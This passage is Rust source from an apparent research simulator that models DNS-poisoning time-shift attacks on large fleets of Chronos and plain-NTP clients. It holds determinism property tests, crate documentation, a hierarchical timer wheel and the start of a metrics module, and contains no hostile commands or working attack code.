