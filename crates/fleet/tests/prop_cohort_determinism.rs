//! Property tests pinning the cohort layer's determinism contract:
//!
//! 1. **Mixed-fleet equivalence** — with `shared_cache: false` a
//!    heterogeneous fleet (mixed Chronos/plain-NTP tiers over several
//!    resolvers) is *byte-identical*, client by client, to matched
//!    independent runs: each client `g` reproduces in a one-client fleet
//!    whose single tier is `g`'s tier and whose `first_client_id` is `g`
//!    (so tier assignment, resolver assignment and the per-client RNG
//!    stream all re-derive identically). This extends PR 3's
//!    fleet-of-N ≡ N solo runs to the heterogeneous case.
//! 2. **Thread/shard invariance** — a mixed multi-resolver fleet report
//!    (including the per-tier breakdown and every client's end state) is
//!    byte-identical for threads ∈ {1, 2, 3, 8} and across shard sizes
//!    (up to the documented P² estimate caveat, which is why shard-size
//!    comparisons use the counting outputs, not the quantiles).
//! 3. **No baseline drift** — an explicit single Chronos tier at `R = 1`
//!    reproduces the implicit homogeneous fleet (the pre-cohort engine)
//!    exactly, so the cohort layer costs the legacy configuration
//!    nothing.

use fleet::cohort::CohortTier;
use fleet::config::{FleetAttack, FleetConfig};
use fleet::engine::Fleet;
use netsim::time::{SimDuration, SimTime};
use proptest::prelude::*;

fn mixed_tiers() -> Vec<CohortTier> {
    let mut fast = CohortTier::chronos("fast", 1);
    fast.poll_interval = Some(SimDuration::from_secs(32));
    vec![
        CohortTier::chronos("chronos", 2),
        fast,
        CohortTier::plain_ntp("plain ntp", 1),
    ]
}

fn base_config(
    seed: u64,
    clients: usize,
    shared: bool,
    resolvers: usize,
    attack_at: Option<u64>,
    poisoned_resolvers: Option<usize>,
) -> FleetConfig {
    FleetConfig {
        seed,
        clients,
        shared_cache: shared,
        resolvers,
        tiers: mixed_tiers(),
        record_trajectories: true,
        universe: 96,
        chronos: chronos::config::ChronosConfig {
            sample_size: 9,
            trim: 3,
            poll_interval: SimDuration::from_secs(64),
            pool: chronos::config::PoolGenConfig {
                queries: 5,
                query_interval: SimDuration::from_secs(200),
                ..chronos::config::PoolGenConfig::default()
            },
            ..chronos::config::ChronosConfig::default()
        },
        stagger: SimDuration::from_secs(150),
        sample_every: SimDuration::from_secs(120),
        horizon: SimDuration::from_secs(1_800),
        attack: attack_at.map(|t| {
            let attack =
                FleetAttack::paper_default(SimTime::from_secs(t), SimDuration::from_millis(500));
            match poisoned_resolvers {
                Some(k) => attack.with_poisoned_resolvers(k),
                None => attack,
            }
        }),
        ..FleetConfig::default()
    }
}

/// Everything observable about one client.
#[derive(Debug, Clone, PartialEq)]
struct ClientFingerprint {
    trace: Vec<(netsim::time::SimTime, i64)>,
    pool: (usize, usize),
    stats: chronos::core::ChronosStats,
    phase: chronos::core::Phase,
    tier: usize,
    resolver: usize,
    final_offset_ns: i64,
}

fn fingerprint(fleet: &Fleet, i: usize) -> ClientFingerprint {
    ClientFingerprint {
        trace: fleet.trace(i).to_vec(),
        pool: fleet.client_pool(i),
        stats: fleet.client_stats(i),
        phase: fleet.client_phase(i),
        tier: fleet.client_tier(i),
        resolver: fleet.client_resolver(i),
        final_offset_ns: fleet.client_offset_ns(i, fleet.now()),
    }
}

proptest! {
    /// Mixed fleet ≡ matched independent runs: every client of a
    /// heterogeneous multi-resolver fleet reproduces byte-identically in
    /// a one-client fleet of its own tier at its own global id.
    #[test]
    fn mixed_fleet_equals_matched_independent_runs(
        seed in 1u64..300,
        n in 2usize..=6,
        resolvers in 1usize..=3,
        attack_at in prop_oneof![Just(None), Just(Some(100u64)), Just(Some(400u64))],
    ) {
        let config = base_config(seed, n, false, resolvers, attack_at, None);
        let mut fleet = Fleet::new(config.clone());
        fleet.run();
        for i in 0..n {
            // The solo fleet's single tier must be *this client's* tier;
            // shares don't matter for one client.
            let tier_idx = fleet.client_tier(i);
            let mut solo_config = config.clone();
            solo_config.clients = 1;
            solo_config.first_client_id = i as u64;
            solo_config.tiers = vec![config.tiers[tier_idx].clone()];
            let mut solo = Fleet::new(solo_config);
            solo.run();
            let mut expected = fingerprint(&fleet, i);
            // The solo fleet has exactly one tier, indexed 0.
            expected.tier = 0;
            prop_assert_eq!(
                expected,
                fingerprint(&solo, 0),
                "client {} of the mixed {}-fleet diverged from its solo run",
                i,
                n
            );
        }
    }

    /// The cohort engine stays byte-identical for every thread count,
    /// partial-poisoning pattern included.
    #[test]
    fn mixed_fleet_is_thread_count_invariant(
        seed in 1u64..300,
        n in 8usize..=24,
        resolvers in 1usize..=4,
        poisoned in 0usize..=4,
        shard_size in prop_oneof![Just(3usize), Just(7), Just(4096)],
    ) {
        let mut config = base_config(
            seed, n, true, resolvers, Some(300), Some(poisoned.min(resolvers)),
        );
        config.shard_size = shard_size;
        let mut reference: Option<(fleet::FleetReport, Vec<ClientFingerprint>)> = None;
        for threads in [1usize, 2, 3, 8] {
            config.threads = threads;
            let mut fleet = Fleet::new(config.clone());
            let report = fleet.run();
            let clients: Vec<ClientFingerprint> =
                (0..n).map(|i| fingerprint(&fleet, i)).collect();
            match &reference {
                None => reference = Some((report, clients)),
                Some((ref_report, ref_clients)) => {
                    prop_assert_eq!(ref_report, &report, "report at threads={}", threads);
                    prop_assert_eq!(ref_clients, &clients, "clients at threads={}", threads);
                }
            }
        }
    }

    /// Shard size is an internal decomposition: per-client outcomes and
    /// every counting aggregate (per-tier breakdown included) must not
    /// depend on it. Quantile *estimates* are excluded by design — they
    /// are a documented function of the shard layout.
    #[test]
    fn mixed_fleet_is_shard_size_invariant(
        seed in 1u64..300,
        n in 8usize..=24,
        resolvers in 1usize..=3,
        attack_at in prop_oneof![Just(None), Just(Some(300u64))],
    ) {
        let config = base_config(seed, n, true, resolvers, attack_at, Some(1));
        let mut coarse = Fleet::new(config.clone());
        let a = coarse.run();
        let mut fine_config = config;
        fine_config.shard_size = 5;
        let mut fine = Fleet::new(fine_config);
        let b = fine.run();
        prop_assert_eq!(&a.shifted, &b.shifted);
        prop_assert_eq!(&a.histogram, &b.histogram);
        prop_assert_eq!(&a.totals, &b.totals);
        prop_assert_eq!(a.events, b.events);
        prop_assert_eq!(a.poisoned_clients, b.poisoned_clients);
        prop_assert_eq!(&a.tiers, &b.tiers, "per-tier breakdown is layout-free");
        for i in 0..n {
            prop_assert_eq!(fingerprint(&coarse, i), fingerprint(&fine, i), "client {}", i);
        }
    }

    /// No baseline drift: an explicit single all-Chronos tier at R = 1 is
    /// the implicit homogeneous fleet, bit for bit — the cohort layer is
    /// invisible to every pre-cohort configuration.
    #[test]
    fn explicit_single_tier_reproduces_the_implicit_fleet(
        seed in 1u64..300,
        n in 2usize..=12,
        attack_at in prop_oneof![Just(None), Just(Some(300u64))],
    ) {
        let mut implicit = base_config(seed, n, true, 1, attack_at, None);
        implicit.tiers = Vec::new();
        let mut explicit = implicit.clone();
        explicit.tiers = vec![CohortTier::chronos("chronos", 1)];
        let mut a = Fleet::new(implicit);
        let mut b = Fleet::new(explicit);
        let ra = a.run();
        let rb = b.run();
        prop_assert_eq!(ra, rb);
        for i in 0..n {
            prop_assert_eq!(fingerprint(&a, i), fingerprint(&b, i), "client {}", i);
        }
    }

    /// Pooled reuse round-trips through heterogeneous configurations:
    /// reset and reconfigure reproduce fresh cohort fleets exactly (the
    /// `run_fleets` pooling contract).
    #[test]
    fn cohort_fleets_reset_and_reconfigure_cleanly(
        seed in 1u64..200,
        n in 4usize..=10,
        resolvers in 1usize..=3,
    ) {
        let config = base_config(seed, n, true, resolvers, Some(300), Some(1));
        let mut fresh = Fleet::new(config.clone());
        let fresh_report = fresh.run();
        // Reuse a fleet built for a *different* cohort shape.
        let mut donor_config = base_config(seed ^ 0xff, n + 2, true, 1, None, None);
        donor_config.tiers = Vec::new();
        let mut reused = Fleet::new(donor_config);
        reused.run();
        reused.reconfigure(config);
        let reused_report = reused.run();
        prop_assert_eq!(&fresh_report, &reused_report, "reconfigure");
        // And reset under a new seed re-derives resolver traits and
        // assignments from that seed.
        reused.reset(seed ^ 1);
        reused.run();
        reused.reset(seed);
        let reset_report = reused.run();
        prop_assert_eq!(&fresh_report, &reset_report, "reset");
    }
}
