//! # fleet — population-scale Chronos simulation
//!
//! The packet-level [`netsim`] worlds simulate *one* Chronos victim (plus a
//! plain-NTP control) with full wire fidelity. The paper's headline claim,
//! however, is a *population* statement: an off-path attacker who poisons
//! the pool's DNS mapping shifts time on **every client behind the
//! resolver**, not one client in isolation. This crate is the layer that
//! makes that claim simulable: 10⁵–10⁶ lightweight Chronos clients inside a
//! single shared world, against one rotating `pool.ntp.org` zone and one
//! attacker — and, since the cohort layer, across **heterogeneous
//! populations**: mixed Chronos/plain-NTP tiers with per-tier
//! configuration overrides ([`cohort`]), hashed over multiple independent
//! resolver caches of which the attacker may control only a fraction
//! ([`FleetConfig::resolvers`],
//! [`config::FleetAttack::poisoned_resolvers`]) — the
//! fraction-of-population vs fraction-of-resolvers-poisoned question
//! (E16).
//!
//! ## How it stays cheap
//!
//! * **Struct-of-arrays state** ([`Fleet`]): clocks (real
//!   [`ntplab::clock::LocalClock`]s), phases, retry counters, poll
//!   deadlines and per-client RNG streams live in parallel columns; one
//!   client costs under 120 bytes
//!   ([`Fleet::per_client_footprint_bytes`]) and no allocations after
//!   construction.
//! * **Sharded parallel stepping**: the columns are partitioned into
//!   contiguous shards ([`FleetConfig::shard_size`] clients each), every
//!   shard owning a private timer wheel, scratch buffers and streaming
//!   aggregates. The only cross-client coupling — the shared resolver
//!   cache — is resolved by a deterministic pre-pass
//!   ([`resolver::ResolverTimeline`]; pool-query times are static), after
//!   which shards step embarrassingly parallel on
//!   [`FleetConfig::threads`] workers and merge in fixed shard order:
//!   runs are **byte-identical for every thread count**.
//! * **The decision logic is the real one**: every round concludes through
//!   [`chronos::core`] — the same borrowed-state stepping API the
//!   packet-level [`chronos::client::ChronosClient`] delegates to — so the
//!   fleet cannot drift from the reference client's accept/reject/panic
//!   behaviour.
//! * **A hierarchical timer wheel** ([`wheel::TimerWheel`]) schedules
//!   millions of staggered poll deadlines in O(1) per operation, instead of
//!   pushing every client through netsim's per-node event heap.
//! * **Batched request/response rounds**: DNS pool generation consults a
//!   shared resolver-cache model ([`resolver::ResolverModel`]) that mirrors
//!   `dnslab`'s rotation + TTL caching semantics (150 s pool TTL, 4 records
//!   per response, a poisoned entry frozen for its high TTL); NTP sample
//!   rounds draw server offsets directly from the benign/malicious pool
//!   composition instead of exchanging packets.
//! * **Streaming aggregates** ([`stats`]): fixed-bin offset histograms and
//!   online (P²) quantiles, so a million-client run's memory stays bounded
//!   by the fleet state itself — no per-client trajectories unless
//!   explicitly requested.
//!
//! ## Deterministic fault injection (E17)
//!
//! A structural [`config::FaultPlan`] degrades the network without
//! touching determinism: per-tier NTP sample loss and DNS SERVFAIL
//! probabilities, per-resolver outage windows, RFC 8767 serve-stale, and
//! a capped-exponential-backoff retry lane for plain-NTP boot
//! resolution. Every fault draw comes from a dedicated stateless
//! substream ([`rng::fault_f64`], keyed by client, lane, round and
//! sample slot) that consumes nothing from the client's main RNG
//! sequence — so an all-zero plan reproduces the fault-free run
//! byte-for-byte, and faulty runs stay byte-identical across thread
//! counts and shard sizes. Surviving sample subsets feed the *real*
//! [`chronos::core`] decision logic, so starved rounds reject and panic
//! exactly as the reference client would.
//!
//! ## Fidelity contract
//!
//! The fleet is a *mean-field* model of the network: per-sample benign
//! server offsets are drawn i.i.d. from the configured imperfection bound
//! and path noise is a configurable jitter, where netsim assigns each
//! server a persistent clock. What is **exact** is the Chronos state
//! machine (shared code), the pool-composition arithmetic (rotation
//! batches, dedup, §V record-cap/TTL mitigations) and the shared-cache
//! poisoning window. With `shared_cache: false` every client is fully
//! independent, and a fleet of N clients is byte-identical to N
//! single-client runs with matched global ids — the property test in
//! `tests/prop_fleet_equivalence.rs` pins this.
//!
//! *(Workspace map: see `ARCHITECTURE.md` at the repo root — crate-by-crate
//! architecture, the data-flow diagram, and the determinism contract.)*

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod checkpoint;
pub mod cohort;
pub mod config;
pub mod engine;
pub mod metrics;
pub mod resolver;
pub mod rng;
pub mod stats;
pub mod wheel;

pub use checkpoint::CheckpointError;
pub use cohort::{ClientKind, CohortTier};
pub use config::{
    FaultPlan, FleetAttack, FleetConfig, OutageWindow, RetryPolicy, ServeStalePolicy, TierFaults,
};
pub use engine::{Fleet, FleetProgress, FleetReport, FleetThroughput, TierBreakdown};
pub use metrics::{FleetMetrics, StageSummary};
pub use stats::{FaultCounters, OffsetHistogram, P2Quantile, SecureCounters};

/// Convenient glob-import of the commonly used types.
pub mod prelude {
    pub use crate::checkpoint::CheckpointError;
    pub use crate::cohort::{ClientKind, CohortTier};
    pub use crate::config::{
        FaultPlan, FleetAttack, FleetConfig, OutageWindow, RetryPolicy, ServeStalePolicy,
        TierFaults,
    };
    pub use crate::engine::{Fleet, FleetProgress, FleetReport, FleetThroughput, TierBreakdown};
    pub use crate::metrics::{FleetMetrics, StageSummary};
    pub use crate::stats::{FaultCounters, OffsetHistogram, P2Quantile, SecureCounters};
}
