//! A hierarchical timer wheel for millions of staggered deadlines.
//!
//! netsim orders every event — packets, timers, node bookkeeping — through
//! one binary heap: O(log n) per operation over *all* pending events. A
//! fleet needs exactly one pending deadline per client (its next pool
//! round or poll), and those deadlines are dense and short-range. The
//! classic hashed hierarchical wheel (Varghese & Lauck) gives O(1)
//! schedule/cancel and amortized-O(1) expiry:
//!
//! * [`LEVELS`] levels of [`SLOTS`] slots each; level *l* covers
//!   `SLOTS^(l+1)` ticks, so six 64-slot levels span `64^6` ticks (~2
//!   years at the default 1 ms tick).
//! * Each slot heads an **intrusive singly-linked list** over a
//!   preallocated `next[]` column — scheduling a timer writes two words
//!   and allocates nothing, ever.
//! * Advancing a tick expires level-0's current slot; on level boundaries
//!   the matching upper slot *cascades* down, re-filing its timers by
//!   their exact deadline tick.
//!
//! The wheel orders by **tick**; ties within a tick carry no order. The
//! fleet engine stores exact nanosecond deadlines beside the wheel and
//! sorts each expired batch by `(deadline, client)` so semantics never
//! depend on list internals.

/// Slot-index bits per level.
const SLOT_BITS: u32 = 6;
/// Slots per level.
pub const SLOTS: usize = 1 << SLOT_BITS;
/// Hierarchy depth.
pub const LEVELS: usize = 6;
/// Empty-list sentinel.
const NIL: u32 = u32::MAX;

/// A hierarchical timer wheel over timer ids `0..capacity`.
///
/// Each id may hold at most one pending deadline (re-scheduling an armed
/// id is a logic error the wheel does not detect — the fleet's one-event-
/// per-client discipline guarantees it).
#[derive(Debug, Clone)]
pub struct TimerWheel {
    tick_ns: u64,
    now_tick: u64,
    heads: Vec<[u32; SLOTS]>, // one slot array per level
    next: Vec<u32>,
    deadline_tick: Vec<u64>,
    armed: usize,
    /// Level-0 slot occupancy (bit set ⇔ head non-NIL), the index behind
    /// [`TimerWheel::fast_forward`]'s O(1) empty-run skipping.
    occupied0: u64,
}

impl TimerWheel {
    /// A wheel for `capacity` timer ids at `tick_ns` resolution, starting
    /// at time zero.
    ///
    /// # Panics
    ///
    /// Panics if `tick_ns` is zero.
    pub fn new(capacity: usize, tick_ns: u64) -> Self {
        assert!(tick_ns > 0, "tick must be positive");
        TimerWheel {
            tick_ns,
            now_tick: 0,
            heads: vec![[NIL; SLOTS]; LEVELS],
            next: vec![NIL; capacity],
            deadline_tick: vec![0; capacity],
            armed: 0,
            occupied0: 0,
        }
    }

    /// Bytes of intrusive per-timer state (`next` + `deadline_tick`
    /// entries), for per-client footprint accounting.
    pub const PER_TIMER_BYTES: usize = std::mem::size_of::<u32>() + std::mem::size_of::<u64>();

    /// Forgets every pending timer and rewinds to time zero, keeping the
    /// allocations (fleet-reuse support).
    pub fn reset(&mut self) {
        self.now_tick = 0;
        for level in &mut self.heads {
            level.fill(NIL);
        }
        self.next.fill(NIL);
        self.armed = 0;
        self.occupied0 = 0;
    }

    /// Grows (or shrinks) the id capacity, dropping all pending timers.
    pub fn resize(&mut self, capacity: usize) {
        self.next.clear();
        self.next.resize(capacity, NIL);
        self.deadline_tick.clear();
        self.deadline_tick.resize(capacity, 0);
        for level in &mut self.heads {
            level.fill(NIL);
        }
        self.now_tick = 0;
        self.armed = 0;
        self.occupied0 = 0;
    }

    /// Number of ids the wheel can hold.
    pub fn capacity(&self) -> usize {
        self.next.len()
    }

    /// The wheel's current tick (see [`TimerWheel::now_ns`]).
    pub fn now_tick(&self) -> u64 {
        self.now_tick
    }

    /// Moves the clock of an **empty** wheel to an absolute tick, the
    /// restore half of checkpoint/resume: a snapshot records `now_tick`,
    /// a restore resets the wheel, jumps here, then re-files every
    /// pending deadline through [`TimerWheel::schedule`] (which re-hashes
    /// each timer into the slot it would occupy had the wheel advanced
    /// tick by tick to this point).
    ///
    /// # Panics
    ///
    /// Panics if any timer is armed (the jump would strand it in a slot
    /// computed for a different rotation).
    pub fn jump_to_tick(&mut self, tick: u64) {
        assert_eq!(self.armed, 0, "jump_to_tick on a non-empty wheel");
        self.now_tick = tick;
    }

    /// Timers currently pending.
    pub fn armed(&self) -> usize {
        self.armed
    }

    /// The wheel's current time in nanoseconds (start of the current tick).
    pub fn now_ns(&self) -> u64 {
        self.now_tick * self.tick_ns
    }

    /// The tick a deadline at `at_ns` fires on (never early: rounds up).
    pub fn tick_of(&self, at_ns: u64) -> u64 {
        at_ns.div_ceil(self.tick_ns)
    }

    /// Arms timer `id` for `at_ns`. Returns `false` when the deadline is
    /// not in the future of the wheel clock (the caller must run it
    /// immediately instead — the wheel cannot file into the past).
    ///
    /// # Panics
    ///
    /// Panics if `id` is out of range.
    pub fn schedule(&mut self, id: u32, at_ns: u64) -> bool {
        let tick = self.tick_of(at_ns);
        if tick <= self.now_tick {
            return false;
        }
        self.deadline_tick[id as usize] = tick;
        self.file(id, tick);
        self.armed += 1;
        true
    }

    fn file(&mut self, id: u32, tick: u64) {
        let diff = tick ^ self.now_tick;
        let level = if diff == 0 {
            0
        } else {
            (((63 - diff.leading_zeros()) / SLOT_BITS) as usize).min(LEVELS - 1)
        };
        let slot = ((tick >> (SLOT_BITS * level as u32)) & (SLOTS as u64 - 1)) as usize;
        self.next[id as usize] = self.heads[level][slot];
        self.heads[level][slot] = id;
        if level == 0 {
            self.occupied0 |= 1 << slot;
        }
    }

    /// Jumps the clock forward to just before the next tick that could do
    /// any work — the next occupied level-0 slot in the current 64-tick
    /// rotation, the rotation boundary (where upper levels may cascade),
    /// or `limit_tick`, whichever comes first — without stepping the empty
    /// ticks in between. The skipped ticks are provably no-ops: their
    /// level-0 slot is empty and no cascade boundary lies inside the
    /// skipped range, so a subsequent [`TimerWheel::advance`] behaves
    /// exactly as if every intervening tick had been advanced one by one.
    ///
    /// This is what makes per-shard wheels affordable: a sharded fleet
    /// walks S wheels over the same horizon, and without skipping the
    /// empty-tick cost would multiply by S.
    pub fn fast_forward(&mut self, limit_tick: u64) {
        if limit_tick <= self.now_tick + 1 {
            return;
        }
        let slot = self.now_tick & (SLOTS as u64 - 1);
        let rotation = self.now_tick & !(SLOTS as u64 - 1);
        // Occupied slots strictly ahead of the current one in this
        // rotation; slots at or behind belong to the next rotation, whose
        // boundary stops us first.
        let ahead = if slot == SLOTS as u64 - 1 {
            0
        } else {
            self.occupied0 & (u64::MAX << (slot + 1))
        };
        let next_interesting = if ahead != 0 {
            rotation + u64::from(ahead.trailing_zeros())
        } else {
            rotation + SLOTS as u64 // the cascade boundary
        };
        self.now_tick = (next_interesting - 1)
            .min(limit_tick - 1)
            .max(self.now_tick);
    }

    /// Advances one tick, appending every timer expiring on it to `due`
    /// (unordered). Returns the new wheel time in nanoseconds.
    pub fn advance(&mut self, due: &mut Vec<u32>) -> u64 {
        self.now_tick += 1;
        // Cascade upper levels on their boundaries, innermost first.
        for level in 1..LEVELS {
            if self.now_tick & ((1 << (SLOT_BITS * level as u32)) - 1) != 0 {
                break;
            }
            let slot =
                ((self.now_tick >> (SLOT_BITS * level as u32)) & (SLOTS as u64 - 1)) as usize;
            let mut cursor = std::mem::replace(&mut self.heads[level][slot], NIL);
            while cursor != NIL {
                let id = cursor;
                cursor = self.next[id as usize];
                self.file(id, self.deadline_tick[id as usize]);
            }
        }
        // Expire level 0's current slot.
        let slot = (self.now_tick & (SLOTS as u64 - 1)) as usize;
        let mut cursor = std::mem::replace(&mut self.heads[0][slot], NIL);
        self.occupied0 &= !(1 << slot); // re-files below may set it again
        while cursor != NIL {
            let id = cursor;
            cursor = self.next[id as usize];
            if self.deadline_tick[id as usize] == self.now_tick {
                self.next[id as usize] = NIL;
                self.armed -= 1;
                due.push(id);
            } else {
                // A longer-range timer hashed onto the same level-0 slot
                // (deadline ≥ now + SLOTS ticks): re-file for its next pass.
                self.file(id, self.deadline_tick[id as usize]);
            }
        }
        self.now_ns()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Drains the wheel up to `until_ns`, returning (fire_ns, id) pairs.
    fn drain(wheel: &mut TimerWheel, until_ns: u64) -> Vec<(u64, u32)> {
        let mut out = Vec::new();
        let mut due = Vec::new();
        while wheel.now_ns() < until_ns {
            let now = wheel.advance(&mut due);
            due.sort_unstable();
            for id in due.drain(..) {
                out.push((now, id));
            }
        }
        out
    }

    #[test]
    fn fires_in_deadline_order_never_early() {
        let mut wheel = TimerWheel::new(8, 1_000_000); // 1 ms ticks
        let deadlines = [
            (0u32, 5_000_000u64),
            (1, 1_000_001),
            (2, 64_000_000),     // level-1 range
            (3, 4_100_000_000),  // level-2 range
            (4, 26_300_000_000), // deep
        ];
        for &(id, at) in &deadlines {
            assert!(wheel.schedule(id, at));
        }
        assert_eq!(wheel.armed(), 5);
        let fired = drain(&mut wheel, 30_000_000_000);
        assert_eq!(fired.len(), 5);
        for &(at, id) in &fired {
            let want = deadlines.iter().find(|d| d.0 == id).unwrap().1;
            assert!(at >= want, "timer {id} fired at {at} before {want}");
            assert!(at - want < 1_000_000, "timer {id} fired a tick late");
        }
        let order: Vec<u32> = fired.iter().map(|&(_, id)| id).collect();
        assert_eq!(order, vec![1, 0, 2, 3, 4]);
        assert_eq!(wheel.armed(), 0);
    }

    #[test]
    fn wheel_matches_sorted_reference_on_dense_load() {
        let mut wheel = TimerWheel::new(512, 1_000_000);
        let mut expected: Vec<(u64, u32)> = Vec::new();
        let mut state = 0x1234_5678_u64;
        for id in 0..512u32 {
            // Cheap LCG spread across ~80 s, covering multiple levels.
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1);
            let at = 1 + state % 80_000_000_000;
            assert!(wheel.schedule(id, at));
            expected.push((wheel.tick_of(at) * 1_000_000, id));
        }
        expected.sort_unstable();
        let fired = drain(&mut wheel, 81_000_000_000);
        assert_eq!(fired, expected);
    }

    #[test]
    fn past_deadlines_are_refused() {
        let mut wheel = TimerWheel::new(2, 1_000);
        let mut due = Vec::new();
        for _ in 0..10 {
            wheel.advance(&mut due);
        }
        assert!(!wheel.schedule(0, 0));
        assert!(
            !wheel.schedule(0, wheel.now_ns()),
            "current tick is not future"
        );
        assert!(wheel.schedule(0, wheel.now_ns() + 1));
        assert_eq!(wheel.armed(), 1);
    }

    #[test]
    fn reset_forgets_and_rewinds() {
        let mut wheel = TimerWheel::new(4, 1_000);
        wheel.schedule(0, 5_000);
        wheel.schedule(1, 50_000);
        let mut due = Vec::new();
        wheel.advance(&mut due);
        wheel.reset();
        assert_eq!(wheel.armed(), 0);
        assert_eq!(wheel.now_ns(), 0);
        // Re-arming after reset works, and dropped timers never fire.
        assert!(wheel.schedule(2, 2_000));
        assert_eq!(drain(&mut wheel, 100_000), vec![(2_000, 2)]);
    }

    /// Drains like `drain`, but fast-forwarding over empty stretches the
    /// way the fleet engine does.
    fn drain_fast(wheel: &mut TimerWheel, until_ns: u64) -> Vec<(u64, u32)> {
        let mut out = Vec::new();
        let mut due = Vec::new();
        let limit = wheel.tick_of(until_ns);
        while wheel.now_ns() < until_ns && wheel.armed() > 0 {
            wheel.fast_forward(limit);
            let now = wheel.advance(&mut due);
            due.sort_unstable();
            for id in due.drain(..) {
                out.push((now, id));
            }
        }
        out
    }

    #[test]
    fn fast_forward_preserves_the_fire_sequence() {
        // Dense pseudo-random load across all levels: the skipped drain
        // must report exactly the same (time, id) sequence as the
        // tick-by-tick one.
        let build = || {
            let mut wheel = TimerWheel::new(512, 1_000_000);
            let mut state = 0xfeed_beef_u64;
            for id in 0..512u32 {
                state = state.wrapping_mul(6364136223846793005).wrapping_add(1);
                let at = 1 + state % 80_000_000_000;
                assert!(wheel.schedule(id, at));
            }
            wheel
        };
        let plain = drain(&mut build(), 81_000_000_000);
        let skipped = drain_fast(&mut build(), 81_000_000_000);
        assert_eq!(plain, skipped);
    }

    #[test]
    fn fast_forward_respects_the_limit_and_rearms() {
        let mut wheel = TimerWheel::new(4, 1_000);
        wheel.schedule(0, 500_000); // far in the future (level > 0)
                                    // Nothing before the limit: the clock must stop at limit - 1 so
                                    // the next advance lands exactly on the limit tick.
        wheel.fast_forward(10);
        assert_eq!(wheel.now_ns(), 9_000);
        let mut due = Vec::new();
        wheel.advance(&mut due);
        assert!(due.is_empty());
        assert_eq!(wheel.now_ns(), 10_000);
        // A no-op when the limit is the next tick anyway.
        wheel.fast_forward(11);
        assert_eq!(wheel.now_ns(), 10_000);
        // Skipping still fires re-armed near timers exactly on time.
        wheel.schedule(1, 20_500);
        assert_eq!(
            drain_fast(&mut wheel, 600_000),
            vec![(21_000, 1), (500_000, 0)]
        );
    }

    #[test]
    fn rearm_after_fire_cycles() {
        let mut wheel = TimerWheel::new(1, 1_000);
        let mut fired_at = Vec::new();
        let mut due = Vec::new();
        wheel.schedule(0, 1_000);
        while wheel.now_ns() < 10_000 {
            let now = wheel.advance(&mut due);
            for id in due.drain(..) {
                fired_at.push(now);
                wheel.schedule(id, now + 2_000);
            }
        }
        assert_eq!(fired_at, vec![1_000, 3_000, 5_000, 7_000, 9_000]);
    }
}
