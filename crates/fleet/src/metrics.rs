//! Engine instrumentation: wall-clock stage timings and event counters
//! behind an optional handle.
//!
//! A [`FleetMetrics`] is attached with [`crate::Fleet::set_metrics`] and
//! is a strict *side channel*: recording touches only [`std::time`]
//! clocks and `obs` atomics — never simulation state, never an RNG
//! stream — so a metrics-enabled run produces a byte-identical
//! [`crate::engine::FleetReport`] and identical per-client end states vs
//! a metrics-off run (pinned by
//! `crates/fleet/tests/prop_metrics_determinism.rs`). When no handle is
//! attached the engine skips every `Instant` read on the stage
//! boundaries; the remaining cost is a handful of already-maintained
//! local counters per slice.
//!
//! Stage histograms share one Prometheus family,
//! `fleet_stage_seconds{stage="…"}`, so dashboards can fan the engine's
//! pipeline out of a single metric name.

use obs::{Counter, Registry, TimeHistogram};
use std::sync::Arc;

/// Log-histogram resolution for stage wall times — matches the
/// offset-histogram resolution in [`crate::engine`] so bin layouts read
/// the same everywhere.
const WALL_BINS_PER_DECADE: usize = 8;

/// The stage-label values of `fleet_stage_seconds`, in pipeline order.
const STAGES: [&str; 5] = [
    "timeline_prepass",
    "shard_slice",
    "report_merge",
    "checkpoint_encode",
    "checkpoint_restore",
];

/// Shared handles to every engine instrument. Cheap to clone through an
/// [`Arc`]; safe to record from all shard workers concurrently.
#[derive(Debug)]
pub struct FleetMetrics {
    /// Wall time of the shared-cache resolver timeline pre-pass, per
    /// rebuild (`fleet_stage_seconds{stage="timeline_prepass"}`).
    pub timeline_prepass: Arc<TimeHistogram>,
    /// Wall time of one shard stepping one [`crate::Fleet::run_until`]
    /// slice (`stage="shard_slice"`; one observation per shard per
    /// slice).
    pub shard_slice: Arc<TimeHistogram>,
    /// Wall time of the aggregate merge in [`crate::Fleet::report`]
    /// (`stage="report_merge"`).
    pub report_merge: Arc<TimeHistogram>,
    /// Wall time of [`crate::Fleet::checkpoint`] encoding
    /// (`stage="checkpoint_encode"`).
    pub checkpoint_encode: Arc<TimeHistogram>,
    /// Wall time of [`crate::Fleet::restore_with`] decoding
    /// (`stage="checkpoint_restore"`).
    pub checkpoint_restore: Arc<TimeHistogram>,
    /// Total checkpoint bytes encoded (`fleet_checkpoint_bytes_total`).
    pub checkpoint_bytes: Arc<Counter>,
    /// Client events stepped (`fleet_events_total`).
    pub events: Arc<Counter>,
    /// Non-empty due-batch drains (`fleet_round_batches_total`): each is
    /// one sorted batch of same-window NTP rounds/polls.
    pub round_batches: Arc<Counter>,
    /// Timer-wheel `advance` calls (`fleet_wheel_advances_total`).
    pub wheel_advances: Arc<Counter>,
    /// Ticks jumped over by wheel fast-forward
    /// (`fleet_wheel_ticks_skipped_total`).
    pub wheel_ticks_skipped: Arc<Counter>,
}

/// One row of [`FleetMetrics::stage_summaries`]: how often a stage ran
/// and how much wall clock it consumed.
#[derive(Debug, Clone, PartialEq)]
pub struct StageSummary {
    /// Stage label (one of the `fleet_stage_seconds` stages).
    pub stage: &'static str,
    /// Observations recorded.
    pub count: u64,
    /// Total wall time across them, seconds.
    pub total_secs: f64,
}

impl FleetMetrics {
    /// Builds instruments registered in `registry` (re-deriving existing
    /// handles if already registered — registration is idempotent).
    /// `labels` is appended to every instrument, e.g. `[("job", name)]`.
    pub fn registered(registry: &Registry, labels: &[(&str, &str)]) -> FleetMetrics {
        let stage_histogram = |stage: &str| {
            let mut with_stage = vec![("stage", stage)];
            with_stage.extend_from_slice(labels);
            registry.histogram(
                "fleet_stage_seconds",
                "Wall time of one fleet engine stage execution.",
                &with_stage,
                WALL_BINS_PER_DECADE,
            )
        };
        let counter = |name: &str, help: &str| registry.counter(name, help, labels);
        FleetMetrics {
            timeline_prepass: stage_histogram(STAGES[0]),
            shard_slice: stage_histogram(STAGES[1]),
            report_merge: stage_histogram(STAGES[2]),
            checkpoint_encode: stage_histogram(STAGES[3]),
            checkpoint_restore: stage_histogram(STAGES[4]),
            checkpoint_bytes: counter(
                "fleet_checkpoint_bytes_total",
                "Total checkpoint bytes encoded.",
